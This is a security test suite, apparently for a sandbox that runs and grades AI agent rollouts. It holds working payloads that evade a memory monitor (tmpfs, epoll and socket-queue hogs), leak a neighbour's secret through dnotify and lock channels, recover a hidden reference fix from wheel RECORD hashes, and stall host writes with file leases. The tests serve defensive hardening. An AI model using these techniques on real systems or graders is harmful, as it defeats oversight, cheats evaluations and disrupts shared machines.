"""Round 27 attacks on the sandbox (open: each xfail strict until fixed).

Each runs real bwrap as root (a leased uid, cgroups, the workspace as an overlay or a copy)
and/or as a normal user (nobody, through ``run_as``).
"""

from __future__ import annotations

import textwrap

import pytest

from tests.security.test_attacks_round25_sandbox import _judged_as_the_rollouts
from tests.security.test_attacks_round26_sandbox import (
    _RECORD_LOCK_RECEIVER,
    _RECORD_LOCK_SENDER,
    _read_by_a_neighbour,
    _secret_read,
)

# The end of r27s-1's and r27s-2's tests (``mb``, ``os`` and ``time`` theirs): one more process
# grows until the OOM killer ends it (the largest), then the command ends as killed.
_GROW_TO_THE_LIMIT = textwrap.dedent(
    """
    if os.fork() == 0:  # the largest: grows to the container's limit, the OOM killer's choice
        try:
            held = []
            while True:
                b = bytearray(mb)
                b[::4096] = b"x" * len(b[::4096])
                held.append(b)
        except MemoryError:  # its RLIMIT_AS (the part) first: the container was not full
            print("NOT FULL", len(held), flush=True)
            time.sleep(30)
        finally:
            os._exit(0)
    time.sleep(5)
    os.kill(os.getpid(), 9)
    """
)


# The end of r27s-1's and r30s-1's tests (``counted``, ``mb``, ``os`` and ``time`` theirs): a process
# holding each ``counted`` MB of bytes, then one growing to the container's limit.
_COUNTED_THEN_GROWN = (
    textwrap.dedent(
        """
    for n in counted:
        if os.fork() == 0:
            try:
                b = bytearray(n * mb)
                b[::4096] = b"x" * len(b[::4096])
                time.sleep(30)
            finally:
                os._exit(0)
    time.sleep(1)
    """
    )
    + _GROW_TO_THE_LIMIT
)


# r27s-1: a new instance of r11-2's class past the part watch (agent/memory_part.py), after
# r24s-2 (pipes), r25s-1 (mappings), r25s-7 (socket queues), r26s-1 (page tables). A normal
# user's sandbox (no memory cgroup of its own) in a 400 MB container (part: 168 MB). The watch
# adds to what the processes map only the *workspace's* tmpfs (``_part_watch``'s ``extra``):
# the sandbox's own /tmp (64 MB) and /dev/shm (16 MB) are tmpfs too, their pages charged to the
# container's memory cgroup, and a file written there and closed is mapped by no one (no Pss).
# Here 77 MB written there, four processes of 39 MB, and a fifth growing until the OOM killer
# ends it (the largest): the rest holds ~240 MB, the watch sees ~160 MB, under the part, and the
# run is the machine's shortage (SandboxError, not judged) where the same 77 MB held as bytes in
# two more processes (the control) is the rollout's (judged): a wrong fix's final run escapes
# its FAIL so.
_TMPFS_HOG = (
    textwrap.dedent(
        """
    import os, time
    mb = 2**20
    if AS_FILES:  # /tmp's and /dev/shm's own tmpfs, written and closed: mapped by no one
        with open("/tmp/held", "wb") as f:
            for _ in range(62):
                f.write(b"x" * mb)
        with open("/dev/shm/held", "wb") as f:
            for _ in range(15):
                f.write(b"x" * mb)
        counted = [39, 39, 39, 39]
    else:  # the same 77 MB as bytes in processes of their own
        counted = [39, 39, 39, 39, 39, 38]
    """
    )
    + _COUNTED_THEN_GROWN
)


def test_r27s_1_control_bytes_held_past_the_part_are_the_rollouts(user_dir):
    _judged_as_the_rollouts(user_dir, _TMPFS_HOG.replace("AS_FILES", "False"))


def test_r27s_1_tmp_and_shm_files_past_the_part_are_the_rollouts(user_dir):
    _judged_as_the_rollouts(user_dir, _TMPFS_HOG.replace("AS_FILES", "True"))


# r27s-2: r11-2's class once more past the part watch, through epoll watches. Each watch (an
# epitem and its wait-queue entry, ~200 bytes of kernel memory, charged to the container's
# memory cgroup and never reclaimed while held) is behind no pipe, no mapping and no page a
# process maps: the watch counts none. 508 epoll instances each registered with 508 others
# (a nesting depth of 1, within the kernel's loop and path checks) make 258,064 watches in
# one process of ~13 MB: ~50 MB each, five processes ~250 MB, then a sixth grows until the
# OOM killer ends it (the largest). The watch sees ~40 MB, under the 168 MB part, and the run is
# the machine's shortage (not judged), where the same 50 MB held as bytes in each (the
# control) is the rollout's (judged). (The count is per user, fs.epoll.max_user_watches, ~4%
# of RAM: no bound here.)
_EPOLL_HOG = (
    textwrap.dedent(
        """
    import os, select, time
    mb = 2**20
    r, w = os.pipe()
    for _ in range(5):
        if os.fork() == 0:
            try:
                if AS_WATCHES:  # 258,064 watches, ~50 MB of kernel memory
                    leaves = [select.epoll() for _ in range(508)]
                    tops = [select.epoll() for _ in range(508)]
                    for top in tops:
                        for leaf in leaves:
                            top.register(leaf.fileno(), select.EPOLLIN)
                else:  # the same as bytes
                    b = bytearray(50 * mb)
                    b[::4096] = b"x" * len(b[::4096])
                os.write(w, b"1")
                time.sleep(60)
            finally:
                os._exit(0)
    for _ in range(5):
        os.read(r, 1)
    """
    )
    + _GROW_TO_THE_LIMIT
)


def test_r27s_2_control_bytes_held_past_the_part_are_the_rollouts(user_dir):
    _judged_as_the_rollouts(user_dir, _EPOLL_HOG.replace("AS_WATCHES", "False"))


def test_r27s_2_epoll_watches_past_the_part_are_the_rollouts(user_dir):
    _judged_as_the_rollouts(user_dir, _EPOLL_HOG.replace("AS_WATCHES", "True"))


# r27s-3: a new instance of r26s-4/5/6's class (a channel between two sandboxes at once), and
# past the refusal of inotify and fanotify (seccomp: "the kernel counts them per user"):
# dnotify. fcntl(F_NOTIFY, DN_ACCESS | DN_MULTISHOT) on a directory the sandbox may read (a
# read-only bind of the host's) queues a signal to it, with the directory's descriptor
# (F_SETSIG, si_fd), whenever any process of the machine reads a file of it: another sandbox,
# repo-agent, any user. No lock, no page cache, no timing: each read is one notice. The
# receiver (a rollout's tests, as root in a sandbox of their own) arms 128 leaf directories
# of the standard library's test suites (imported by no one's tests); a neighbouring final
# run reads one byte of a source file of each directory whose bit of its secret is 1, again
# and again for 7 s; the receiver counts the notices for 5 s and reads 16 bytes of the secret
# whole.
_NOTICE_DIRS = """
import ctypes, fcntl, os, signal, sys, time
prefix = os.path.dirname(os.__file__)
sources = {  # a source file of each leaf directory of the test suites (imported by no one's tests but CPython's)
    d: os.path.join(d, min(n for n in ns if n.endswith(".py") and os.path.getsize(os.path.join(d, n))))
    for d, ds, ns in os.walk(prefix)
    if "/test" in d and not set(ds) - {"__pycache__"}
    and any(n.endswith(".py") and os.path.getsize(os.path.join(d, n)) for n in ns)
}
names = sorted(sources)[:128]
assert len(names) == 128, len(names)
"""
_NOTICE_SENDER = _NOTICE_DIRS + textwrap.dedent(
    """
    secret = open("secret.txt", "rb").read()[:16]
    bits = [(byte >> i) & 1 for byte in secret for i in range(8)]

    def touch(d):  # one byte read of d's source file: one notice (a read of nothing gives none)
        fd = os.open(sources[d], os.O_RDONLY)
        os.read(fd, 1)
        os.close(fd)

    end = time.monotonic() + 7
    while time.monotonic() < end:  # again and again: the neighbour counts
        for d, bit in zip(names, bits):
            if bit:
                touch(d)
        time.sleep(0.2)
    """
)
_NOTICE_RECEIVER = _NOTICE_DIRS + textwrap.dedent(
    """
    libc = ctypes.CDLL(None, use_errno=True)
    SIG = signal.SIGRTMIN
    signal.pthread_sigmask(signal.SIG_BLOCK, [SIG])
    fds = {}
    for d in names:  # dnotify: a signal whenever d or a file of it is read, by anyone
        fd = os.open(d, os.O_RDONLY | os.O_DIRECTORY)
        fcntl.fcntl(fd, fcntl.F_SETSIG, SIG)
        try:
            fcntl.fcntl(fd, fcntl.F_NOTIFY, fcntl.DN_ACCESS | fcntl.DN_MULTISHOT)
        except OSError:  # refused (round 27 r27s-3's fix): the receiver goes on, told nothing
            continue
        fds[fd] = d
    mask = ctypes.create_string_buffer(128)
    libc.sigemptyset(mask)
    libc.sigaddset(mask, SIG)
    info = ctypes.create_string_buffer(128)
    tick = (ctypes.c_long * 2)(0, 50_000_000)
    seen = dict.fromkeys(names, 0)
    end = time.monotonic() + 5
    while time.monotonic() < end:
        if libc.sigtimedwait(mask, info, tick) > 0:
            d = fds.get(int.from_bytes(info.raw[24:28], "little"))  # siginfo's si_fd
            if d is not None:
                seen[d] += 1
    bits = [int(seen[d] >= 8) for d in names]  # read again and again: a 1 (a walk lists each a few times)
    print("READ", bytes(sum(bits[8 * k + i] << i for i in range(8)) for k in range(16)).hex())
    """
)


def _notices_read(tmp_path, sender: bool) -> bool:
    """Whether the receiver (``_NOTICE_RECEIVER``), run to its end, printed the first 16 bytes
    of a secret ``_NOTICE_SENDER`` held in a neighbouring root sandbox (``sender``)."""
    secret, said, _ = _read_by_a_neighbour(tmp_path, sender, (_NOTICE_SENDER, _NOTICE_RECEIVER))
    assert "READ" in said, said[-300:]  # the receiver ran to its end
    return secret[:32] in said


def test_r27s_3_control_a_sandbox_alone_reads_no_neighbours_secret_by_dnotify(tmp_path):
    assert not _notices_read(tmp_path, False)


def test_r27s_3_a_sandbox_never_reads_a_neighbours_secret_by_dnotify(tmp_path):
    assert not _notices_read(tmp_path, True), "a neighbouring sandbox read the final run's secret whole"


# r27s-4: the reference fix reaches the code under test through the installed wheel's RECORD.
# Installed as a wheel (``pip install .``, ``uv sync --no-editable``, a container image), the
# package's ``agent/suites`` is covered in the sandbox by an empty tmpfs (agent/bwrap.py
# ``_hide_installed_suites``), but its dist-info beside it is not: RECORD names every file of
# the wheel with its sha256 and size, every task's ``_fix`` (the reference fix), ``_hidden``
# (hidden tests) and ``_heldout`` (held-out pool) among them. The size tells what kind of edit
# the fix is (fix_bitcount: the same 172 bytes, one byte changed), and the hash confirms a guess:
# the code under test tries every one-byte change of the buggy file it is given and finds the
# reference fix, byte for byte, in ~16,000 hashes (a few ms).
_WHEEL_FIX = textwrap.dedent(
    """
    import base64, glob, hashlib, os, sys
    want = None
    for record in glob.glob(os.path.join(sys.prefix, "lib/python3*/site-packages/*.dist-info/RECORD")):
        try:
            lines = open(record).readlines()
        except OSError:  # unreadable (round 27 r27s-4's fix): the code goes on, knowing nothing
            continue
        for line in lines:
            path, digest, size = line.rstrip("\\n").rsplit(",", 2)
            if path.endswith("/fix_bitcount/_fix/bitcount.py"):
                want = digest.split("=", 1)[1]
    src = open("bitcount.py", "rb").read()

    def named(b):
        return base64.urlsafe_b64encode(hashlib.sha256(b).digest()).rstrip(b"=").decode()

    found = [
        src[:i] + bytes([c]) + src[i + 1 :]
        for i in range(len(src)) for c in range(32, 127)
        if want and named(src[:i] + bytes([c]) + src[i + 1 :]) == want
    ]
    suites = glob.glob(os.path.join(sys.prefix, "lib/python3*/site-packages/agent/suites/*"))
    print("SUITES", len(suites))
    print("FOUND", found[0].hex() if found else None)
    """
)


def _run_with_the_wheel_installed(tmp_path) -> str:
    """What ``_WHEEL_FIX`` printed, run as root in a sandbox on a venv where the package is
    installed as a wheel installs it: ``agent`` in site-packages, and the dist-info's RECORD
    (each file, its urlsafe-base64 sha256 and size)."""
    import base64
    import hashlib
    import shutil
    import subprocess
    import sys
    from pathlib import Path

    import agent
    from agent.sandbox import run_command_full

    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    site = next(venv.glob("lib/python3*/site-packages"))
    shutil.copytree(Path(agent.__file__).resolve().parent, site / "agent", ignore=shutil.ignore_patterns("__pycache__"))
    dist = site / "repo_agent_studio-0.1.0.dist-info"
    dist.mkdir()
    (dist / "METADATA").write_text("Metadata-Version: 2.3\nName: repo-agent-studio\nVersion: 0.1.0\n")
    lines = []
    for f in sorted(p for p in (site / "agent").rglob("*") if p.is_file()):
        data = f.read_bytes()
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        lines.append(f"{f.relative_to(site)},sha256={digest},{len(data)}")
    (dist / "RECORD").write_text("\n".join(lines) + "\n")
    ws = tmp_path / "ws"
    ws.mkdir()
    shutil.copy(site / "agent/suites/mini_bugs/fix_bitcount/bitcount.py", ws / "bitcount.py")  # the task's buggy file
    (ws / "run.py").write_text(_WHEEL_FIX)
    python = str(venv / "bin" / "python")
    return run_command_full([python, "run.py"], ws, timeout_s=60, sandbox="bwrap", python=python).output


def _reference_bitcount() -> bytes:
    from pathlib import Path

    import agent

    return (Path(agent.__file__).resolve().parent / "suites/mini_bugs/fix_bitcount/_fix/bitcount.py").read_bytes()


def test_r27s_4_control_the_installed_suites_are_hidden(tmp_path):
    said = _run_with_the_wheel_installed(tmp_path)
    assert "SUITES 0" in said, said[-500:]


def test_r27s_4_the_reference_fix_never_reaches_the_sandbox_through_record(tmp_path):
    said = _run_with_the_wheel_installed(tmp_path)
    assert "FOUND" in said, said[-500:]  # the code ran to its end
    assert f"FOUND {_reference_bitcount().hex()}" not in said, "the sandbox found the reference fix byte for byte"


# r27s-5: r11-2's class once more past the part watch (after r25s-7's queued bytes and r27s-2's
# epoll watches), and from one process with a handful of descriptors: the accept queue of a
# listening AF_UNIX socket. Each connect() to it makes the listener a new socket of its own (an
# embryo: its sock and the connection's skb, ~3.2 kB of slab measured on this 6.18 kernel),
# queued until accepted, and the client may close at once: the embryo stays, with no
# descriptor, no mapping, no page a process maps. A backlog of 4,096 (net.core.somaxconn) a
# listener: 20 listeners held 81,940 embryos, ~250 MB of slab (~180 MB charged to the memory
# cgroup), in 1.6 s; NOFILE listeners a process, NPROC processes: the machine's memory.
# A root sandbox's memory cgroup charges them (its run over its limit, judged: seen here); a
# normal user's has none, the container's is charged, and the part watch counts only pipes
# among descriptors. 30 listeners here, then one more process grows until the OOM killer ends
# it (the largest): the watch sees a few MB, under the 168 MB part, and the run is the machine's
# shortage (not judged), where 250 MB held as bytes in five processes is the rollout's (judged:
# r27s-2's control, the same grower after them).
_EMBRYO_HOG = (
    textwrap.dedent(
        """
    import os, socket, time
    mb = 2**20
    listeners = []
    # 30 listeners, each with 4,096 connections queued and their clients closed
    for i in range(30):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(b"\\0r27s-5-%d" % i)
        s.listen(4096)
        listeners.append(s)
        while True:
            c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            c.setblocking(False)
            try:
                c.connect(b"\\0r27s-5-%d" % i)
            except BlockingIOError:  # the backlog full
                break
            finally:
                c.close()
    """
    )
    + _GROW_TO_THE_LIMIT
)


@pytest.mark.xfail(strict=True, reason="open: r27s-5 a normal user's accept-queue sockets past its part are unseen")
def test_r27s_5_queued_connections_past_the_part_are_the_rollouts(user_dir):
    _judged_as_the_rollouts(user_dir, _EMBRYO_HOG)


# r27s-6: round 5 #13's class (a sandbox holding the host's own programs through a file of the
# read-only venv: uv's .lock, flock) by another lock the kernel keeps per file: a lease. A
# normal user's sandbox in its own uid (no subordinate range: REPO_AGENT_SUBUIDS=0) owns its
# venv's files, and the owner of a file may take a read lease on it (fcntl F_SETLEASE
# F_RDLCK) through the read-only bind. Then every open of that file for writing (or truncate)
# by any process of the machine, the user's uv, pip or editor, root's too, blocks until the
# holder lets go or the sandbox ends, up to fs.lease-break-time (45 s) each time; the holder
# ignores the SIGIO that asks it to. Here the venv's pyvenv.cfg, held for 8 s: a root writer's
# open waits for the sandbox's end, where without the lease (the control) it opens at once.
_LEASE_HOLDER = textwrap.dedent(
    """
    import fcntl, os, signal, sys, time
    signal.signal(signal.SIGIO, signal.SIG_IGN)  # the kernel's request to let go, ignored
    fd = os.open(os.path.join(sys.prefix, "pyvenv.cfg"), os.O_RDONLY)
    if TAKE_LEASE:
        try:
            fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_RDLCK)
        except OSError as exc:  # refused: the sandbox still runs its 8 s (the host's open is timed then)
            print("REFUSED", exc.errno, flush=True)
    print("HOLDING", flush=True)
    time.sleep(8)
    """
)


def _host_write_waited(user_dir, take_lease: bool) -> float:
    """Seconds a root writer's open of the venv's pyvenv.cfg waited while a normal user's
    sandbox (its own uid, on a venv of its own) ran ``_LEASE_HOLDER``."""
    import errno
    import os
    import subprocess
    import sys
    import time

    from tests.security.conftest import AS_NOBODY, give_to_nobody
    from tests.security.test_attacks_round11 import _in_sandbox

    (user_dir / "ws").mkdir()
    (user_dir / "ws" / "hold.py").write_text(_LEASE_HOLDER.replace("TAKE_LEASE", str(take_lease)))
    python = user_dir / "venv" / "bin" / "python"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(user_dir / "venv")], check=True)
    give_to_nobody(user_dir)
    code = _in_sandbox(user_dir / "ws", "hold.py")
    for was, now in (
        ("[sys.executable, 'hold.py']", f"[{str(python)!r}, 'hold.py']"),
        ('sandbox="bwrap",', f'sandbox="bwrap", python={str(python)!r},'),
    ):
        assert was in code, was  # (the sandbox's runner as _in_sandbox writes it)
        code = code.replace(was, now)
    env = {**os.environ, "REPO_AGENT_SUBUIDS": "0"}
    cfg = user_dir / "venv" / "pyvenv.cfg"
    proc = subprocess.Popen(
        [*AS_NOBODY, sys.executable, "-c", code], env=env, cwd="/", text=True, stdout=subprocess.PIPE
    )
    try:
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and proc.poll() is None:
            try:
                os.close(os.open(cfg, os.O_WRONLY | os.O_NONBLOCK))
            except OSError as exc:
                if exc.errno == errno.EWOULDBLOCK:  # leased
                    break
            if _holder_runs():
                time.sleep(1)  # its lease taken or not by now
                break
            time.sleep(0.05)
        assert proc.poll() is None, "the sandbox ended before the host wrote"
        start = time.monotonic()
        os.close(os.open(cfg, os.O_WRONLY | os.O_APPEND))  # a writer of the host (root), blocking
        waited = time.monotonic() - start
        out, _ = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert "HOLDING" in out, out[-500:]  # the holder ran
    return waited


def _holder_runs() -> bool:
    """Whether ``python hold.py`` (the command itself, not the launcher naming it) runs."""
    from pathlib import Path

    from tests.security.conftest import processes_naming

    def command(pid: int) -> list[bytes]:
        try:
            return Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")[1:]
        except OSError:  # gone meanwhile
            return []

    return any(command(pid) == [b"hold.py", b""] for pid in processes_naming("hold.py"))


def test_r27s_6_control_a_host_writer_opens_the_venv_at_once(user_dir):
    assert _host_write_waited(user_dir, False) < 2


def test_r27s_6_a_sandbox_never_holds_a_host_writer_by_a_lease(user_dir):
    waited = _host_write_waited(user_dir, True)
    assert waited < 2, f"a root writer's open of the venv's pyvenv.cfg waited {waited:.1f} s for the sandbox"


# r27s-7: r26s-5's channel (two sandboxes at once through record locks on shared read-only
# files) through open file description locks, the other family of fcntl's record locks: a read
# lock taken with F_OFD_SETLK (36-38, not F_SETLK's 5-7) is seen by the neighbour's F_OFD_GETLK
# asking for a write lock. A fix refusing the POSIX commands by number (seccomp reads fcntl's
# command) leaves these.
_OFD_SHARED = "fcntl.fcntl(HOLDER, fcntl.F_OFD_SETLK, __import__('struct').pack('hhqqi', fcntl.F_RDLCK, 0, 0, 0, 0))"
_OFD_LOCK_SENDER = _RECORD_LOCK_SENDER.replace("fcntl.lockf(fd, fcntl.LOCK_SH)", _OFD_SHARED.replace("HOLDER", "fd"))
_OFD_LOCK_SENDER = _OFD_LOCK_SENDER.replace("fcntl.lockf(ready, fcntl.LOCK_SH)", _OFD_SHARED.replace("HOLDER", "ready"))
_OFD_LOCK_RECEIVER = _RECORD_LOCK_RECEIVER.replace("fcntl.F_GETLK,", "fcntl.F_OFD_GETLK,")


def test_r27s_7_control_a_sandbox_alone_reads_no_neighbours_secret_by_ofd_locks(tmp_path):
    assert "F_OFD_SETLK" in _OFD_LOCK_SENDER and "F_OFD_GETLK" in _OFD_LOCK_RECEIVER
    assert not _secret_read(tmp_path, False, (_OFD_LOCK_SENDER, _OFD_LOCK_RECEIVER))


def test_r27s_7_a_sandbox_never_reads_a_neighbours_secret_by_ofd_locks(tmp_path):
    assert "lockf" not in _OFD_LOCK_SENDER and "F_GETLK," not in _OFD_LOCK_RECEIVER  # OFD locks only
    assert not _secret_read(tmp_path, True, (_OFD_LOCK_SENDER, _OFD_LOCK_RECEIVER)), (
        "a neighbouring sandbox read the final run's secret through OFD locks"
    )
